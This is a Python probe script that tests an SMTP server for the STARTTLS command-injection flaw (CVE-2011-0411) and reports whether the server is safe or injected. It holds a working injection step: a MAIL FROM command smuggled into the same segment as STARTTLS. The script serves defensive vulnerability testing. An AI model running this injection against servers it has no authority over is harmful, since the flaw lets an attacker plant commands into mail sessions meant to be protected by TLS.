#!/usr/bin/python3
"""The STARTTLS command-injection probe (CVE-2011-0411): sends STARTTLS and a second command in
one TCP segment, completes the TLS handshake, then runs a real transaction inside TLS.

usage: smtp_inject.py HOST PORT CAFILE SNI INJECTED_SENDER

Prints one line per reply ("REPLY <text>") and a verdict line:
  SAFE       the injected command had no effect: the MAIL FROM inside TLS was accepted (a server
             that had executed the injected MAIL FROM answers "503 nested MAIL command")
  INJECTED   the server acted on the injected command
Exits 0 when the probe ran (whatever the verdict), 1 when it could not run.
"""
import socket
import ssl
import sys


def reply(f):
    """One SMTP reply (all of its lines); returns (code, text)."""
    lines = []
    while True:
        line = f.readline(4096)
        if not line:
            raise EOFError("connection closed")
        lines.append(line.decode(errors="replace").rstrip("\r\n"))
        if len(line) < 4 or line[3:4] != b"-":
            break
    text = " | ".join(lines)
    print("REPLY", text, flush=True)
    return int(lines[-1][:3]), text


def main():
    host, port, cafile, sni, injected = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
    s = socket.create_connection((host, port), timeout=10)
    f = s.makefile("rb")
    reply(f)
    s.sendall(b"EHLO probe.jfe.test\r\n")
    code, text = reply(f)
    if "STARTTLS" not in text.upper():
        print("NO-STARTTLS")
        return 1
    # One segment: the command after STARTTLS is plaintext an attacker could have inserted.
    s.sendall(b"STARTTLS\r\nMAIL FROM:<" + injected.encode() + b">\r\n")
    code, _ = reply(f)
    if code != 220:
        print("STARTTLS-REFUSED")
        return 1
    ctx = ssl.create_default_context(cafile=cafile)
    t = ctx.wrap_socket(s, server_hostname=sni)
    tf = t.makefile("rb")
    t.sendall(b"EHLO probe.jfe.test\r\n")
    code, text = reply(tf)
    if "STARTTLS" in text.upper():
        print("STARTTLS-OFFERED-INSIDE-TLS")
    t.sendall(b"MAIL FROM:<probe@jfe.test>\r\n")
    code, _ = reply(tf)
    t.sendall(b"QUIT\r\n")
    try:
        reply(tf)
    except (EOFError, OSError):
        pass
    print("SAFE" if code == 250 else "INJECTED", flush=True)
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except (OSError, EOFError, ValueError) as e:
        print("ERROR", e, flush=True)
        sys.exit(1)
